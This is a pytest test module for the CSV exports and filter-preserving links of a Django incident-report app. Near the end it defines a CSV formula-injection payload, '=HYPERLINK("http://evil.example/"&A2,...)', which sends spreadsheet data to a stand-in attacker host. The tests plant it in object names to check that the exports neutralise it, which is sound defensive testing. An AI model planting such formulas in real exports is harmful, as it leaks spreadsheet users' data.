"""Each report page: its tables, the CSV beside each one, and links that keep the filters.

The CSV beside a table is the same numbers for a spreadsheet: same columns,
same rows, same values (to two decimals where the page shows one). Links
between reports, to each CSV and to the incidents behind a figure carry the
filters the page was drawn with, so a reader never loses them on the way.
"""

from __future__ import annotations

import csv
import io
from html.parser import HTMLParser
from urllib.parse import parse_qs, urlsplit

import pytest
from django.urls import reverse

from unblame.incidents.models import Service, Severity
from unblame.insights.views import REPORTS

SLUGS = list(REPORTS)


class _Page(HTMLParser):
    """The tables (per section id), CSV links and the nav of an insights page."""

    def __init__(self) -> None:
        super().__init__()
        self.section = ""
        self.tables: dict[str, list[list[str]]] = {}
        self.csv_links: dict[str, str] = {}
        self.nav_links: list[str] = []
        self.in_nav = False
        self.cell: list[str] | None = None
        self.row: list[str] | None = None
        self.in_body = False

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag == "section" and "insight-block" in (attrs.get("class") or ""):
            self.section = attrs["id"]
        elif tag == "nav" and attrs.get("aria-label") == "Insights":
            self.in_nav = True
        elif tag == "a" and self.in_nav:
            self.nav_links.append(attrs["href"])
        elif tag == "a" and "download" in attrs:
            self.csv_links[self.section] = attrs["href"]
        elif tag == "tbody":
            self.in_body = True
            self.tables[self.section] = []
        elif tag == "tr" and self.in_body:
            self.row = []
        elif tag in ("td", "th") and self.row is not None:
            self.cell = []

    def handle_endtag(self, tag):
        if tag == "nav":
            self.in_nav = False
        elif tag == "tbody":
            self.in_body = False
        elif tag in ("td", "th") and self.cell is not None and self.row is not None:
            self.row.append("".join(self.cell).strip())
            self.cell = None
        elif tag == "tr" and self.row is not None:
            self.tables[self.section].append(self.row)
            self.row = None

    def handle_data(self, data):
        if self.cell is not None:
            self.cell.append(data)


def page(client, slug, **params):
    response = client.get(reverse("insights:report", args=[slug]), params)
    assert response.status_code == 200
    parsed = _Page()
    parsed.feed(response.content.decode())
    return parsed, response


def csv_rows(client, href):
    parts = urlsplit(href)
    params = {key: values[-1] for key, values in parse_qs(parts.query).items()}
    response = client.get(parts.path, params)
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.content.decode())))


def _same(shown: str, written: str) -> bool:
    """A page cell and its CSV value are the same figure (the page shows one decimal)."""
    if shown == "—":
        return written == ""
    try:
        return abs(float(shown) - float(written)) <= 0.05 + 1e-9
    except ValueError:
        return shown == written


@pytest.mark.parametrize("slug", SLUGS)
def test_every_table_has_a_csv_of_the_same_numbers(as_admin, history, slug):
    parsed, response = page(as_admin, slug)
    blocks = response.context["blocks"]
    assert set(parsed.csv_links) == {block.slug for block in blocks}
    for block in blocks:
        rows = csv_rows(as_admin, parsed.csv_links[block.slug])
        assert rows[0] == block.table.columns, block.slug
        shown = parsed.tables.get(block.slug, [])
        assert len(shown) == len(rows) - 1, block.slug
        for shown_row, written_row in zip(shown, rows[1:], strict=True):
            assert len(shown_row) == len(written_row), block.slug
            for a, b in zip(shown_row, written_row, strict=True):
                assert _same(a, b), (block.slug, a, b)


@pytest.mark.parametrize("slug", SLUGS)
def test_the_csv_links_and_the_nav_keep_the_filters(as_viewer, history, slug, sev2):
    parsed, _ = page(as_viewer, slug, severity=sev2.pk, since="2026-01-01")
    expected = {"severity": [str(sev2.pk)], "since": ["2026-01-01"]}
    for href in [*parsed.csv_links.values(), *parsed.nav_links]:
        assert parse_qs(urlsplit(href).query) == expected, href
    assert len(parsed.nav_links) == 1 + len(REPORTS)


def test_the_nav_marks_the_report_being_read(as_viewer, history):
    html = as_viewer.get(reverse("insights:report", args=["load"])).content.decode()
    nav = html.split('aria-label="Insights"')[1].split("</nav>")[0]
    assert nav.count('aria-current="page"') == 1
    assert 'href="/insights/load/" aria-current="page"' in nav


def test_the_overview_links_every_report_with_the_filters(as_viewer, history):
    service = Service.objects.get(name="checkout")
    html = as_viewer.get(reverse("insights:index"), {"service": service.pk}).content.decode()
    for slug, report in REPORTS.items():
        assert f'href="/insights/{slug}/?service={service.pk}">{report.title}</a>' in html


def test_the_filter_form_shows_what_was_chosen(as_viewer, history):
    sev4 = Severity.objects.get(name="SEV4")
    response = as_viewer.get(
        reverse("insights:report", args=["response"]), {"severity": sev4.pk, "until": "2026-05-01"}
    )
    html = response.content.decode()
    assert f'<option value="{sev4.pk}" selected>SEV4</option>' in html
    assert 'value="2026-05-01"' in html


def test_an_unreadable_filter_is_named_and_the_rest_applied(as_viewer, history):
    response = as_viewer.get(
        reverse("insights:report", args=["response"]), {"since": "someday", "severity": "999999"}
    )
    assert response.status_code == 200
    html = response.content.decode()
    assert "Some filters could not be read and were left out" in html
    # Nothing readable was left, so every incident is counted and no link carries a filter.
    detect = next(b for b in response.context["blocks"] if b.slug == "detect")
    assert [c.value for c in detect.table.rows[0][:2]] == ["2026-03", 1]
    assert "since=" not in detect.table.rows[0][0].link


def test_a_report_with_nothing_to_count_says_so_without_a_chart(as_viewer, db):
    html = as_viewer.get(reverse("insights:report", args=["factors"])).content.decode()
    main = html.split("<main")[1]
    assert main.count("Nothing to show for these incidents yet.") == 2
    assert '<svg class="insight-chart"' not in main


def test_an_empty_csv_still_has_its_header(as_viewer, db):
    rows = csv_rows(as_viewer, reverse("insights:csv", args=["follow-through", "overdue"]))
    assert rows == [["Owner", "Team", "Open", "Overdue", "Open after incident closed"]]


HOSTILE = '=HYPERLINK("http://evil.example/"&A2,"open")'


@pytest.fixture
def hostile_names(incident, editor, sev2):
    """A service, a factor category, a person and a team named as spreadsheet formulas."""
    from unblame.actions.models import ActionItem, ContributingFactor, FactorCategory
    from unblame.incidents.models import Responder

    from ..conftest import make_user

    incident.services.add(Service.objects.create(name="+" + HOSTILE))
    category = FactorCategory.objects.create(name=HOSTILE, position=50)
    ContributingFactor.objects.create(incident=incident, category=category, description="x")
    person = make_user("@sum", "editor", team="-" + HOSTILE)
    Responder.objects.create(incident=incident, user=person)
    ActionItem.objects.create(incident=incident, title="x", owner=person)
    return person


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("slug", SLUGS)
def test_no_insights_csv_carries_a_live_formula(as_admin, hostile_names, slug):
    parsed, _ = page(as_admin, slug)
    cells = 0
    for href in parsed.csv_links.values():
        for written in csv_rows(as_admin, href):
            for cell in written:
                cells += 1
                if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                    assert _number(cell), (href, cell)
    assert cells


def test_the_hostile_names_are_kept_as_text(as_admin, hostile_names):
    rows = csv_rows(as_admin, reverse("insights:csv", args=["factors", "across-services"]))
    assert [r[0] for r in rows[1:] if HOSTILE in r[0]] == ["'" + HOSTILE]
    by_month = csv_rows(as_admin, reverse("insights:csv", args=["factors", "by-month"]))
    assert "'" + HOSTILE in by_month[0]
    people = csv_rows(as_admin, reverse("insights:csv", args=["load", "people"]))
    assert ["'@sum", "'-" + HOSTILE] in [r[:2] for r in people]


def _every_csv(client, params):
    tables = {}
    for slug in SLUGS:
        response = client.get(reverse("insights:report", args=[slug]), params)
        for block in response.context["blocks"]:
            url = reverse("insights:csv", args=[slug, block.slug])
            tables[(slug, block.slug)] = client.get(url, params).content.decode()
    return tables


@pytest.mark.parametrize("name", ["service", "severity", "team", "dates"])
def test_a_filter_gives_the_figures_of_a_history_of_only_its_incidents(
    as_admin, history, incident, restricted, sev2, name
):
    from datetime import timedelta

    from unblame.actions.models import ActionItem, ContributingFactor, FactorCategory
    from unblame.incidents.models import Incident, Responder

    from ..conftest import NOW, make_user

    search = Service.objects.create(name="search")
    sev1 = Severity.objects.get(name="SEV1")
    member = make_user("pat", "editor", team="payments")
    other = Incident.objects.create(
        title="Search slow",
        severity=sev1,
        declared_at=NOW - timedelta(days=40),
        impact_started_at=NOW - timedelta(days=40),
        detected_at=NOW - timedelta(days=40) + timedelta(minutes=25),
        resolved_at=NOW - timedelta(days=39),
    )
    other.services.add(search)
    Responder.objects.create(incident=other, user=member, role="incident_commander")
    ContributingFactor.objects.create(
        incident=other, category=FactorCategory.objects.get(name="Testing"), description="x"
    )
    ActionItem.objects.create(incident=other, title="Add an index check", owner=member)
    params = {
        "service": {"service": search.pk},
        "severity": {"severity": sev1.pk},
        "team": {"team": "payments"},
        "dates": {"since": "2026-01-01", "until": "2026-02-01"},
    }[name]
    filtered = _every_csv(as_admin, params)
    assert "Testing,1,1,no" in filtered[("factors", "across-services")]
    assert "Change management" not in filtered[("factors", "across-services")]
    # The same figures, unfiltered, once every incident the filter leaves out is gone.
    Incident.objects.exclude(pk=other.pk).delete()
    alone = _every_csv(as_admin, {})
    assert filtered.keys() == alone.keys()
    for key in filtered:
        assert filtered[key] == alone[key], key
